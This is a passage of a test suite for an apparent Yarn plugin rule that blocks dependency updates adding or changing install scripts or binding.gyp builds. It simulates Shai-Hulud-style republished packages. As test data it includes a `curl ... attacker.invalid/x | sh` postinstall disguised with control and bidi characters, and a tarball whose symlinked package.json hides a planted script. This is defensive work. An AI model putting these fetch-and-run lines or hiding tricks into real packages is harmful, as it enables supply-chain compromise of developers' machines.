import {createHash} from 'node:crypto';
import {readdir} from 'node:fs/promises';
import {join} from 'node:path';
import {gzipSync} from 'node:zlib';
import {describe, expect, it} from 'vitest';

import {MALICIOUS_POSTINSTALL} from '../../scripts/lib/axios-replay.mjs';
import {agoISO, type Registry, type VersionSpec} from '../../scripts/lib/registry.mjs';
import {git} from './gitServer';
import {lockfileWrittenWithoutPlugin, projectWith, registryWith, tarballRequests, YARN_RELEASES} from './support';

const APP = {name: `app`, version: `1.0.0`, private: true};
const USES_LIB = {...APP, dependencies: {lib: `^1.0.0`}};
/** Old enough for the release-age rule: only the install-script rule can stop these updates. */
const AGED = {publishedAt: agoISO({days: 20})};
/** What Shai-Hulud 2 added to every package it republished; here it only writes the test's marker file. */
const PREINSTALL = MALICIOUS_POSTINSTALL;
/** Scripts on unless a test says otherwise: the test environment sets YARN_ENABLE_SCRIPTS=1. */
const SCRIPTS_AS_THE_RELEASE_DEFAULTS = {YARN_ENABLE_SCRIPTS: undefined as unknown as string};

async function registryWithLib(before: VersionSpec = {}) {
  return await registryWith({packages: [{name: `lib`, versions: {'1.0.0': {...AGED, ...before}}}]});
}

/** A project that locked lib 1.0.0; `publish` then adds versions as a maintainer (or a stolen token) would. */
async function lockedOnLib(registry: Registry, options: {yarnrc?: Record<string, unknown>, yarn?: string, manifest?: Record<string, unknown>} = {}) {
  const project = await projectWith({registry, manifest: USES_LIB, ...options, yarnrc: {quarantinePeriod: `3d`, ...options.yarnrc}});
  const installed = await project.install();
  expect(installed.code, installed.output).toBe(0);
  expect(await project.lockfile()).toContain(`resolution: "lib@npm:1.0.0"`);
  registry.clearRequests();
  return project;
}

const publish = (registry: Registry, version: string, spec: VersionSpec) => registry.packages.addVersion(`lib`, version, {...AGED, ...spec});

/** Stopped before the fetch step: the lockfile unchanged, no archive fetched, no script run. */
async function expectStopped(project: Awaited<ReturnType<typeof lockedOnLib>>, registry: Registry, result: {code: number | null, output: string}, lockfile: string | null) {
  expect(result.code, result.output).toBe(1);
  expect(result.output).toContain(`Quarantine: 1 violation: 1 of the install-script rule (1 install script added or changed)`);
  expect(await project.lockfile()).toBe(lockfile);
  expect(tarballRequests(registry)).toEqual([]);
  expect(await project.scriptRan()).toBe(false);
}

describe(`the install-script rule`, () => {
  it.each(YARN_RELEASES)(`stops an update that adds a preinstall, before anything is fetched, on Yarn %s`, async yarn => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry, {yarn});
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {scripts: {preinstall: PREINSTALL}});

    const result = await project.install([`up`, `lib`]);

    expect(result.output).toContain(`lib@npm:1.0.1: 1.0.0 -> 1.0.1 adds a preinstall script (${PREINSTALL}); Yarn would run it during the link step (via app@workspace:. > lib@npm:1.0.1). Fix: if you trust the script, run yarn quarantine approve --scripts lib@1.0.1, which adds this version to quarantineApprovedScripts; otherwise stay on 1.0.0 (yarn up lib@1.0.0), or keep it from running with "dependenciesMeta": {"lib@1.0.1": {"built": false}} in package.json`);
    await expectStopped(project, registry, result, lockfile);
  });

  it(`stops a changed command, naming the old and the new one`, async () => {
    const registry = await registryWithLib({scripts: {install: `node -e "0"`}});
    const project = await lockedOnLib(registry);
    const lockfile = await project.lockfile();
    publish(registry, `1.1.0`, {scripts: {install: `node -e "0" && ${PREINSTALL}`}});

    const result = await project.install([`up`, `lib`]);

    expect(result.output).toContain(`lib@npm:1.1.0: 1.0.0 -> 1.1.0 changes its install script from node -e "0" to node -e "0" && ${PREINSTALL}; Yarn would run it during the link step`);
    await expectStopped(project, registry, result, lockfile);
  });

  it(`stops the implicit node-gyp rebuild of a version that gained a binding.gyp`, async () => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry);
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {gypfile: true});

    const result = await project.install([`up`, `lib`]);

    expect(result.output).toContain(`lib@npm:1.0.1: 1.0.0 -> 1.0.1 adds an install script (node-gyp rebuild)`);
    await expectStopped(project, registry, result, lockfile);
  });

  it(`stops it on yarn add, and on an install after the range was changed by hand`, async () => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry);
    const lockfile = await project.lockfile();
    publish(registry, `2.0.0`, {scripts: {postinstall: PREINSTALL}});

    const added = await project.install([`add`, `lib@^2.0.0`]);
    expect(added.output).toContain(`lib@npm:2.0.0: 1.0.0 -> 2.0.0 adds a postinstall script`);
    await expectStopped(project, registry, added, lockfile);

    await project.setManifest({dependencies: {lib: `^2.0.0`}});
    const installed = await project.install();
    expect(installed.output).toContain(`lib@npm:2.0.0: 1.0.0 -> 2.0.0 adds a postinstall script`);
    await expectStopped(project, registry, installed, lockfile);
  });

  it.each([
    [`the same script as before`, {scripts: {postinstall: `node -e "0"`}}, {scripts: {postinstall: `node -e "0"`}}],
    [`no script on either side`, {}, {}],
    [`a script removed`, {scripts: {postinstall: `node -e "0"`}}, {}],
    [`only scripts Yarn does not run at install`, {}, {scripts: {test: `node evil.js`, prepare: `node evil.js`}}],
  ])(`lets an update with %s through, saying nothing about scripts`, async (_, before, after) => {
    // Scripts on: a false alarm would stop the update, before the fetch or after it.
    const registry = await registryWithLib(before);
    const project = await lockedOnLib(registry);
    publish(registry, `1.0.1`, after);

    const result = await project.install([`up`, `lib`]);

    expect(result.code, result.output).toBe(0);
    expect(result.output).not.toMatch(/install script|install-script|script \(/);
    expect(await project.lockfile()).toContain(`resolution: "lib@npm:1.0.1"`);
  });

  it.each([
    [`enableScripts: false`, {enableScripts: false}, {}, {YARN_ENABLE_SCRIPTS: `0`}, `enableScripts is false`],
    [`dependenciesMeta built: false`, {}, {dependenciesMeta: {lib: {built: false}}}, {}, `dependenciesMeta sets built: false for it`],
    [`dependenciesMeta built: false for that very version`, {}, {dependenciesMeta: {'lib@1.0.1': {built: false}}}, {}, `dependenciesMeta sets built: false for it`],
  ])(`lets the update through with one info line when %s keeps the script from running`, async (_, yarnrc, manifest, env, reason) => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry, {yarnrc, manifest: {...USES_LIB, ...manifest}});
    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});

    const result = await project.install([`up`, `lib`], env);

    expect(result.code, result.output).toBe(0);
    expect(result.output.match(/adds a postinstall script/g)).toHaveLength(1);
    expect(result.output).toContain(`lib@npm:1.0.1: 1.0.0 -> 1.0.1 adds a postinstall script (${PREINSTALL}); they will not run here: ${reason} (via app@workspace:. > lib@npm:1.0.1)`);
    expect(await project.lockfile()).toContain(`resolution: "lib@npm:1.0.1"`);
    expect(await project.scriptRan()).toBe(false);
  });

  it(`says in one info line which updates' scripts will not run`, async () => {
    const registry = await registryWith({packages: [
      {name: `lib`, versions: {'1.0.0': AGED}},
      {name: `other`, versions: {'1.0.0': AGED}},
    ]});
    const project = await lockedOnLib(registry, {manifest: {...APP, dependencies: {lib: `^1.0.0`, other: `^1.0.0`}}});
    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});
    registry.packages.addVersion(`other`, `1.0.1`, {...AGED, scripts: {install: `node build.js`, preinstall: `node -e "0"`}});

    const result = await project.install([`up`, `lib`, `other`], {YARN_ENABLE_SCRIPTS: `0`});

    expect(result.code, result.output).toBe(0);
    expect(result.output).toContain(`Quarantine: 2 updates add or change install scripts that will not run here (enableScripts is false): lib 1.0.0 -> 1.0.1 (postinstall), other 1.0.0 -> 1.0.1 (preinstall, install)`);
    expect(result.output).not.toContain(`adds a postinstall script`);
  });

  it(`stops it when dependenciesMeta built: true lets it run although enableScripts is false`, async () => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry, {yarnrc: {enableScripts: false}, manifest: {...USES_LIB, dependenciesMeta: {lib: {built: true}}}});
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});

    const result = await project.install([`up`, `lib`], {YARN_ENABLE_SCRIPTS: `0`});

    await expectStopped(project, registry, result, lockfile);
  });

  it.each([
    [`4.10.3`, `stops it`, 1],
    [`4.14.1`, `lets it through with an info line`, 0],
  ])(`takes enableScripts as Yarn %s defaults it: %s`, async (yarn, _, code) => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry, {yarn});
    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});

    const result = await project.install([`up`, `lib`], SCRIPTS_AS_THE_RELEASE_DEFAULTS);

    expect(result.code, result.output).toBe(code);
    expect(result.output).toContain(code === 1 ? `Yarn would run it during the link step` : `they will not run here: enableScripts is false`);
    expect(await project.scriptRan()).toBe(false);
  });

  it(`does not count scripts turned off by this machine's environment only, which the lockfile's next machines lack`, async () => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry, {yarn: `4.10.3`});
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});

    const result = await project.install([`up`, `lib`], {YARN_ENABLE_SCRIPTS: `0`});

    expect(result.output).toContain(`lib@npm:1.0.1: 1.0.0 -> 1.0.1 adds a postinstall script (${PREINSTALL}); Yarn would run it during the link step wherever scripts are on (enableScripts is false here by YARN_ENABLE_SCRIPTS, not by the project's .yarnrc.yml) (via app@workspace:. > lib@npm:1.0.1)`);
    await expectStopped(project, registry, result, lockfile);
  });

  it.each([
    [`default`, `enableScripts: true`, `YARN_ENABLE_SCRIPTS=0`, `stops it`, {enableScripts: true}, {YARN_ENABLE_SCRIPTS: `0`}],
    [`default`, `enableScripts: 1 (Yarn reads it as true)`, `YARN_ENABLE_SCRIPTS=0`, `stops it`, {enableScripts: 1}, {YARN_ENABLE_SCRIPTS: `0`}],
    [`default`, `an enableScripts that names a variable`, `YARN_ENABLE_SCRIPTS=0`, `stops it`, {enableScripts: `\${SCRIPTS:-true}`}, {YARN_ENABLE_SCRIPTS: `0`}],
    [`4.10.3`, `enableScripts: false`, `YARN_ENABLE_SCRIPTS=0`, `lets it through`, {enableScripts: false}, {YARN_ENABLE_SCRIPTS: `0`}],
    [`4.10.3`, `enableScripts: false`, `no variable`, `lets it through`, {enableScripts: false}, SCRIPTS_AS_THE_RELEASE_DEFAULTS],
  ] as const)(`on Yarn %s, with %s in the project's own .yarnrc.yml and %s, %s`, async (yarn, _, __, outcome, yarnrc, env) => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry, {yarn, yarnrc});
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});

    const result = await project.install([`up`, `lib`], env);

    if (outcome === `stops it`) {
      expect(result.output).toContain(`Yarn would run it during the link step wherever scripts are on (enableScripts is false here by YARN_ENABLE_SCRIPTS, not by the project's .yarnrc.yml)`);
      await expectStopped(project, registry, result, lockfile);
    } else {
      expect(result.code, result.output).toBe(0);
      expect(result.output).toContain(`lib@npm:1.0.1: 1.0.0 -> 1.0.1 adds a postinstall script (${PREINSTALL}); they will not run here: enableScripts is false`);
      expect(await project.scriptRan()).toBe(false);
    }
  });

  it.each([
    [`the release-age rule off`, {quarantinePeriod: `0`}],
    [`the package exempt from the release-age rule`, {quarantineExemptPackages: [`lib`]}],
  ])(`fails closed when the registry will not give its document, with %s`, async (_, yarnrc) => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry, {yarnrc});
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});
    // Yarn revalidates its own copy; only the plugin asks for the whole document without one.
    registry.addFault({match: `/lib`, kind: `status`, status: 500, withoutCachedCopy: true});

    const result = await project.install([`up`, `lib`]);

    expect(result.code, result.output).toBe(1);
    expect(result.output).toMatch(/lib@npm:1\.0\.1: could not learn its install scripts \(.*500.*\), so the install-script rule fails closed; Yarn would run them during the link step/);
    expect(result.output).toContain(`Quarantine: 1 violation: 1 of the install-script rule (1 install scripts not learnt)`);
    expect(await project.lockfile()).toBe(lockfile);
    expect(tarballRequests(registry)).toEqual([]);
    expect(await project.scriptRan()).toBe(false);
  });

  it(`prints a command's control characters escaped, so the line shows what would run`, async () => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry);
    publish(registry, `1.0.1`, {scripts: {postinstall: `curl -s https://attacker.invalid/x | sh #\r\u202enode install.js`}});

    const result = await project.install([`up`, `lib`]);

    expect(result.code).toBe(1);
    expect(result.output).toContain(`adds a postinstall script (curl -s https://attacker.invalid/x | sh #\\u000d\\u202enode install.js)`);
    expect(result.output).not.toContain(`\r`);
  });

  it(`offers yarn up of the previous version only for a dependency a workspace declares`, async () => {
    const registry = await registryWith({packages: [
      {name: `lib`, versions: {'1.0.0': AGED}},
      {name: `parent`, versions: {'1.0.0': {...AGED, dependencies: {lib: `^1.0.0`}}}},
    ]});
    const project = await lockedOnLib(registry, {manifest: {...APP, dependencies: {parent: `^1.0.0`, lib: `^1.0.0`}}});
    await project.setManifest({dependencies: {parent: `^1.0.0`}});
    expect((await project.install()).code).toBe(0);
    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});

    const result = await project.install([`up`, `-R`, `lib`]);

    expect(result.code, result.output).toBe(1);
    expect(result.output).toContain(`(via app@workspace:. > parent@npm:1.0.0 > lib@npm:1.0.1). Fix: if you trust the script, run yarn quarantine approve --scripts lib@1.0.1, which adds this version to quarantineApprovedScripts; otherwise keep yarn.lock's 1.0.0, or keep it from running with`);
  });

  it(`reports the same lines as warnings and goes on under warn, and says nothing under off`, async () => {
    const registry = await registryWithLib();
    const warned = await lockedOnLib(registry, {yarnrc: {quarantineInstallScripts: `warn`}});
    const silent = await lockedOnLib(registry, {yarnrc: {quarantineInstallScripts: `off`}});
    publish(registry, `1.0.1`, {scripts: {postinstall: `node -e "0"`}});

    // `yarn install --json` prints each line with its severity (`yarn up` has no --json).
    await warned.setManifest({dependencies: {lib: `^1.0.1`}});
    const warning = await warned.install([`install`, `--json`]);
    expect(warning.code, warning.output).toBe(0);
    const lines = warning.stdout.trim().split(`\n`).map(line => JSON.parse(line));
    expect(lines.filter(line => String(line.data).includes(`adds a postinstall script`))).toEqual([expect.objectContaining({type: `warning`})]);
    expect(warning.output).toMatch(/quarantineInstallScripts warn/);
    expect(await warned.lockfile()).toContain(`resolution: "lib@npm:1.0.1"`);

    const off = await silent.install([`up`, `lib`]);
    expect(off.code, off.output).toBe(0);
    expect(off.output).not.toContain(`postinstall`);
  });

  it(`approves one version: the next one that changes a script is stopped again`, async () => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry);
    publish(registry, `1.0.1`, {scripts: {postinstall: `node -e "0"`}});
    const blocked = await project.install([`up`, `lib`]);
    expect(blocked.code, blocked.output).toBe(1);

    // Without a flag, approve picks the list of the rule that blocked, and will not take a bare name for it.
    const bare = await project.run([`quarantine`, `approve`, `lib`]);
    expect(bare.code, bare.output).toBe(2);
    expect(bare.output).toContain(`lib: install scripts are approved one version at a time; expected name@version (esbuild@0.25.1), the version the finding names`);
    expect(await project.readFile(`.yarnrc.yml`)).not.toContain(`quarantineApprovedScripts`);

    const approved = await project.run([`quarantine`, `approve`, `lib@1.0.1`]);
    expect(approved.code, approved.output).toBe(0);
    expect(approved.output).toContain(`Added lib@1.0.1 to quarantineApprovedScripts in .yarnrc.yml`);
    const updated = await project.install([`up`, `lib`]);
    expect(updated.code, updated.output).toBe(0);
    expect(await project.lockfile()).toContain(`resolution: "lib@npm:1.0.1"`);

    const lockfile = await project.lockfile();
    registry.clearRequests();
    publish(registry, `1.0.2`, {scripts: {postinstall: `node -e "0" && node payload.js`}});
    const next = await project.install([`up`, `lib`]);
    expect(next.output).toContain(`lib@npm:1.0.2: 1.0.1 -> 1.0.2 changes its postinstall script from node -e "0" to node -e "0" && node payload.js`);
    await expectStopped(project, registry, next, lockfile);

    const flagged = await project.run([`quarantine`, `approve`, `--scripts`, `lib@^1.0.0`]);
    expect(flagged.code, flagged.output).toBe(2);
    expect(flagged.output).toContain(`lib@^1.0.0: install scripts are approved one version at a time; expected name@version (esbuild@0.25.1)`);
  });

  it(`fails closed when the registry leaves a version's scripts out, unless the policy allows it`, async () => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry);
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});
    registry.omitScripts(true);

    const result = await project.install([`up`, `lib`]);
    expect(result.code, result.output).toBe(1);
    expect(result.output).toContain(`lib@npm:1.0.1: the registry says this version has install scripts but leaves out which, so the install-script rule cannot compare them with 1.0.0's and fails closed; Yarn would run them during the link step (via app@workspace:. > lib@npm:1.0.1). Fix: read the scripts in its package.json; if you trust them, run yarn quarantine approve --scripts lib@1.0.1`);
    expect(await project.lockfile()).toBe(lockfile);
    expect(tarballRequests(registry)).toEqual([]);

    await project.setYarnrc({quarantineInstallScripts: `warn`});
    const warned = await project.install([`up`, `lib`, `--mode=update-lockfile`]);
    expect(warned.code, warned.output).toBe(0);
    expect(warned.output).toContain(`lib@npm:1.0.1: the registry says this version has install scripts but leaves out which`);
    await project.writeFile(`yarn.lock`, lockfile!);

    await project.setYarnrc({quarantineInstallScripts: undefined, quarantineApprovedScripts: [`lib@1.0.1`]});
    const approved = await project.install([`up`, `lib`]);
    expect(approved.code, approved.output).toBe(0);
  });

  it(`says whether a new sub-dependency has install scripts`, async () => {
    const registry = await registryWith({packages: [
      {name: `lib`, versions: {'1.0.0': AGED, '1.1.0': {...AGED, dependencies: {payload: `^1.0.0`, helper: `^1.0.0`}}}},
      {name: `payload`, versions: {'1.0.0': {...AGED, scripts: {postinstall: PREINSTALL}}}},
      {name: `helper`, versions: {'1.0.0': AGED}},
    ]});
    const project = await projectWith({registry, manifest: {...APP, dependencies: {lib: `1.0.0`}}, yarnrc: {quarantinePeriod: `0`}});
    expect((await project.install()).code).toBe(0);
    await project.setManifest({dependencies: {lib: `1.1.0`}});

    const result = await project.install();

    expect(result.code).toBe(1);
    expect(result.output).toContain(`payload@npm:1.0.0 is a new sub-dependency: lib 1.0.0 -> 1.1.0 adds payload@^1.0.0, a package this project never had; it has a postinstall script (${PREINSTALL}), which Yarn would run (via`);
    expect(result.output).toContain(`helper@npm:1.0.0 is a new sub-dependency: lib 1.0.0 -> 1.1.0 adds helper@^1.0.0, a package this project never had; its registry document lists no install script (via`);
  });

  it(`reports, with check --since, a pull request whose lockfile already has the update, in text and JSON`, async () => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry);
    git(project.dir, `init`, `-q`);
    git(project.dir, `add`, `package.json`, `yarn.lock`);
    git(project.dir, `commit`, `-q`, `-m`, `base`);
    publish(registry, `1.0.1`, {scripts: {preinstall: PREINSTALL}});
    await project.writeFile(`yarn.lock`, await lockfileWrittenWithoutPlugin(registry, USES_LIB));

    const plain = await project.run([`quarantine`, `check`]);
    expect(plain.code, plain.output).toBe(0);

    const text = await project.run([`quarantine`, `check`, `--since`, `HEAD`]);
    expect(text.code, text.output).toBe(1);
    expect(text.output).toContain(`lib@npm:1.0.1: 1.0.0 -> 1.0.1 adds a preinstall script (${PREINSTALL}); Yarn would run it during the link step`);
    expect(text.output).toContain(`Quarantine check: 1 violation: 1 of the install-script rule (1 install script added or changed)`);

    const json = await project.run([`quarantine`, `check`, `--since`, `HEAD`, `--json`]);
    expect(json.code).toBe(1);
    const findings = json.stdout.trim().split(`\n`).map(line => JSON.parse(line)).filter(object => object.type === `finding`);
    expect(findings).toEqual([expect.objectContaining({
      rule: `install-scripts`,
      kind: `install-script-changed`,
      severity: `error`,
      package: `lib`,
      version: `1.0.1`,
      previousVersion: `1.0.0`,
      scripts: [{script: `preinstall`, command: PREINSTALL, previous: null}],
      scriptsRun: true,
    })]);

    const approved = await project.run([`quarantine`, `approve`, `--since`, `HEAD`, `lib@1.0.1`]);
    expect(approved.output).toContain(`Added lib@1.0.1 to quarantineApprovedScripts in .yarnrc.yml`);
    expect((await project.run([`quarantine`, `check`, `--since`, `HEAD`])).code).toBe(0);
  });
});

/** A stand-in for node-gyp: what Yarn runs for an archive with a binding.gyp, where a real one would expand its `<!(command)`s. */
const NODE_GYP = {name: `node-gyp`, versions: {'1.0.0': {...AGED, bin: {'node-gyp': `bin.js`}, files: {'bin.js': `require('fs').writeFileSync(require('path').join(process.env.MARKER_DIR || '.', 'node-gyp-ran'), 'binding.gyp commands would be running now');\n`}}}};
const USES_LIB_AND_NODE_GYP = {...APP, dependencies: {lib: `^1.0.0`, 'node-gyp': `^1.0.0`}};
/** A binding.gyp whose variable expansion runs a command: node-gyp runs it while it reads the file. */
const BINDING_GYP = `{"variables": {"payload": "<!(node -e \\"0\\")"}, "targets": []}`;

async function gypRan(project: Awaited<ReturnType<typeof lockedOnLib>>) {
  return (await readdir(project.markerDir)).includes(`node-gyp-ran`);
}

describe(`the install-script rule, after the fetch step: the archive holds the scripts the registry's document gave`, () => {
  /** Stopped after the fetch step: the archive fetched, but the lockfile unchanged and nothing linked or run. */
  async function expectStoppedAfterFetch(project: Awaited<ReturnType<typeof lockedOnLib>>, registry: Registry, result: {code: number | null, output: string}, lockfile: string | null) {
    expect(result.code, result.output).toBe(1);
    expect(result.output).toContain(`Quarantine: 1 violation: 1 of the install-script rule (1 install script not in the registry's document); the install stopped after the fetch step: the archive was fetched into the cache, but nothing was linked or run, and the lockfile was not written; remove .yarn/cache/lib-npm-1.0.1-`);
    expect(await project.lockfile()).toBe(lockfile);
    expect(tarballRequests(registry).map(request => request.path)).toContain(`/lib/-/lib-1.0.1.tgz`);
    expect(await project.scriptRan()).toBe(false);
    // The archive the lockfile still names is kept in the project's cache.
    expect((await readdir(join(project.dir, `.yarn`, `cache`))).some(file => file.startsWith(`lib-npm-1.0.0-`))).toBe(true);
  }

  it.each(YARN_RELEASES)(`stops an archive whose package.json has a postinstall the document does not list, on Yarn %s`, async yarn => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry, {yarn});
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {scripts: {postinstall: MALICIOUS_POSTINSTALL}, registryManifest: {scripts: undefined}});

    const result = await project.install([`up`, `lib`]);

    expect(result.output).toContain(`lib@npm:1.0.1: its archive lists a postinstall script (${MALICIOUS_POSTINSTALL}) in its package.json, unlike the registry's document of 1.0.1 that the install-script rule judged before the fetch; Yarn runs the archive's scripts; the archive was fetched into the cache (`);
    expect(result.output).toMatch(/the archive was fetched into the cache \(\S+lib-npm-1\.0\.1-\S+\.zip\), but nothing was linked or run \(via app@workspace:\. > lib@npm:1\.0\.1\)\. Fix: if you trust the script, run yarn quarantine approve --scripts lib@1\.0\.1/);
    await expectStoppedAfterFetch(project, registry, result, lockfile);
  });

  // A tarball may make package/package.json a symlink whose target text is itself clean JSON: Yarn follows the link.
  it.each([`4.0.2`, `default`])(`reads a symlinked package.json as Yarn does, not the link's own text, on Yarn %s`, async yarn => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry, {yarn});
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {});
    const clean = JSON.stringify({name: `lib`, version: `1.0.1`});
    const planted = JSON.stringify({name: `lib`, version: `1.0.1`, scripts: {postinstall: MALICIOUS_POSTINSTALL}});
    replaceTarball(registry, `lib`, `1.0.1`, tgz([[`package/${clean}`, planted], [`package/index.js`, `module.exports = 1;\n`], [`package/package.json`, ``, `2`, clean]]));

    const result = await project.install([`up`, `lib`]);

    expect(result.output).toContain(`lib@npm:1.0.1: its archive lists a postinstall script (${MALICIOUS_POSTINSTALL}) in its package.json, unlike the registry's document of 1.0.1`);
    await expectStoppedAfterFetch(project, registry, result, lockfile);
  });

  it(`holds an approved new sub-dependency's archive to its document too`, async () => {
    const registry = await registryWith({packages: [
      {name: `lib`, versions: {'1.0.0': AGED, '1.0.1': {...AGED, dependencies: {helper: `^1.0.0`}}}},
      {name: `helper`, versions: {'1.0.0': {...AGED, scripts: {postinstall: MALICIOUS_POSTINSTALL}, registryManifest: {scripts: undefined}}}},
    ]});
    const project = await projectWith({registry, manifest: {...APP, dependencies: {lib: `1.0.0`}}, yarnrc: {quarantinePeriod: `3d`, quarantineApprovedDependencies: [`helper`]}});
    expect((await project.install()).code).toBe(0);
    const lockfile = await project.lockfile();
    await project.setManifest({dependencies: {lib: `1.0.1`}});

    const result = await project.install();

    expect(result.code, result.output).toBe(1);
    expect(result.output).toContain(`helper@npm:1.0.0: its archive lists a postinstall script (${MALICIOUS_POSTINSTALL}) in its package.json, unlike the registry's document of 1.0.0`);
    expect(await project.lockfile()).toBe(lockfile);
    expect(await project.scriptRan()).toBe(false);
  });

  it(`stops an archive whose script has another command than the document's`, async () => {
    const registry = await registryWithLib({scripts: {postinstall: `node -e "0"`}});
    const project = await lockedOnLib(registry);
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {scripts: {postinstall: MALICIOUS_POSTINSTALL}, registryManifest: {scripts: {postinstall: `node -e "0"`}}});

    const result = await project.install([`up`, `lib`]);

    expect(result.output).toContain(`lib@npm:1.0.1: its archive lists the postinstall script ${MALICIOUS_POSTINSTALL} in its package.json where the document has node -e "0"`);
    await expectStoppedAfterFetch(project, registry, result, lockfile);
  });

  it.each([
    [`gypfile: false`, {gypfile: false}],
    [`an unchanged preinstall, which keeps npm from recording node-gyp rebuild`, {scripts: {preinstall: `node -e "0"`}}],
  ])(`stops an archive with a binding.gyp that the document does not show (%s)`, async (_, fields) => {
    const registry = await registryWith({packages: [{name: `lib`, versions: {'1.0.0': {...AGED, ...fields}}}, NODE_GYP]});
    const project = await lockedOnLib(registry, {manifest: USES_LIB_AND_NODE_GYP});
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {...fields, files: {'binding.gyp': BINDING_GYP}});

    const result = await project.install([`up`, `lib`]);

    expect(result.output).toContain(`lib@npm:1.0.1: its archive holds a binding.gyp and no install script, so Yarn would run node-gyp rebuild, unlike the registry's document of 1.0.1`);
    await expectStoppedAfterFetch(project, registry, result, lockfile);
    expect(await gypRan(project)).toBe(false);
  });

  it.each([
    [`the same postinstall`, {scripts: {postinstall: `node -e "0"`}}, {}, false],
    [`the node-gyp rebuild npm records for a binding.gyp`, {gypfile: true}, {files: {'binding.gyp': BINDING_GYP}, registryManifest: {gypfile: true}}, true],
  ])(`lets an update through when the archive and the document agree: %s`, async (_, before, archive, builtWithNodeGyp) => {
    const registry = await registryWith({packages: [{name: `lib`, versions: {'1.0.0': {...AGED, ...before}}}, NODE_GYP]});
    const project = await lockedOnLib(registry, {manifest: USES_LIB_AND_NODE_GYP});
    publish(registry, `1.0.1`, {...before, ...archive});

    const result = await project.install([`up`, `lib`]);

    expect(result.code, result.output).toBe(0);
    expect(result.output).not.toContain(`registry's document`);
    expect(await project.lockfile()).toContain(`resolution: "lib@npm:1.0.1"`);
    expect(await gypRan(project)).toBe(builtWithNodeGyp);
    // Yarn's own cleanup of the archive the lockfile no longer names still runs, with its summary.
    expect((await readdir(join(project.dir, `.yarn`, `cache`))).some(file => file.startsWith(`lib-npm-1.0.0-`))).toBe(false);
    expect(result.output).toMatch(/YN0013: .*and one was removed/);
  });

  // Neither mode runs the script, but both write the lockfile, and the next install links what it locked without judging it again.
  it.each([`update-lockfile`, `skip-build`])(`stops it under --mode=%s too`, async mode => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry);
    const lockfile = await project.lockfile();
    publish(registry, `1.0.1`, {scripts: {postinstall: MALICIOUS_POSTINSTALL}, registryManifest: {scripts: undefined}});
    await project.setManifest({dependencies: {lib: `1.0.1`}});

    const result = await project.install([`install`, `--mode=${mode}`]);

    expect(result.output).toContain(`lib@npm:1.0.1: its archive lists a postinstall script (${MALICIOUS_POSTINSTALL}) in its package.json`);
    await expectStoppedAfterFetch(project, registry, result, lockfile);
  });

  it(`lets an approved version through, and Yarn runs what its archive says`, async () => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry);
    publish(registry, `1.0.1`, {scripts: {postinstall: MALICIOUS_POSTINSTALL}, registryManifest: {scripts: undefined}});
    const blocked = await project.install([`up`, `lib`]);
    expect(blocked.code, blocked.output).toBe(1);

    const approved = await project.run([`quarantine`, `approve`, `lib@1.0.1`]);
    expect(approved.output).toContain(`Added lib@1.0.1 to quarantineApprovedScripts in .yarnrc.yml`);
    const result = await project.install([`up`, `lib`]);

    expect(result.code, result.output).toBe(0);
    expect(await project.lockfile()).toContain(`resolution: "lib@npm:1.0.1"`);
    expect(await project.scriptRan()).toBe(true);
  });

  it(`warns and goes on under quarantineInstallScripts: warn`, async () => {
    const registry = await registryWithLib();
    const project = await lockedOnLib(registry, {yarnrc: {quarantineInstallScripts: `warn`}});
    publish(registry, `1.0.1`, {scripts: {postinstall: `node -e "0"`}, registryManifest: {scripts: undefined}});

    const result = await project.install([`up`, `lib`]);

    expect(result.code, result.output).toBe(0);
    expect(result.output).toMatch(/YN0000: .*lib@npm:1\.0\.1: its archive lists a postinstall script \(node -e "0"\) in its package\.json, .*; Yarn will run it during the link step/);
  });
});


/** A tar archive built by hand: `[path, content, type ('0' file, '2' symlink), link target]` per entry. */
function tgz(entries: Array<[string, string, string?, string?]>) {
  const entry = ([path, content, type = `0`, link = ``]: [string, string, string?, string?]) => {
    const data = Buffer.from(content);
    const header = Buffer.alloc(512);
    header.write(path, 0, 100);
    header.write(`0000644\0`, 100);
    header.write(`0000000\0`, 108);
    header.write(`0000000\0`, 116);
    header.write(`${data.length.toString(8).padStart(11, `0`)}\0`, 124);
    header.write(`${(1e9).toString(8).padStart(11, `0`)}\0`, 136);
    header.write(`        `, 148);
    header.write(type, 156);
    header.write(link, 157, 100);
    header.write(`ustar\0`, 257);
    header.write(`00`, 263);
    const checksum = header.reduce((sum, byte) => sum + byte, 0);
    header.write(`${checksum.toString(8).padStart(6, `0`)}\0 `, 148);
    return Buffer.concat([header, data, Buffer.alloc((512 - (data.length % 512)) % 512)]);
  };
